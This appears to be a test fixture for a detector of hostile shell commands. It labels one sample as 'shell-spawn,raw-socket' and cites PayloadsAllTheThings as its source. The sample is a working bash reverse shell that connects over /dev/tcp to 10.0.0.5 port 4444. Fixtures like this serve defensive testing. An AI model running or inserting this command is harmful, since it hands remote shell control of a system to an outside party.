# expect: shell-spawn,raw-socket
# also-ok: dynamic-eval
# source: PayloadsAllTheThings: bash reverse shell
# technique: bash -i >& /dev/tcp/... 0>&1: an interactive shell reading commands from the network
bash -i >& /dev/tcp/10.0.0.5/4444 0>&1
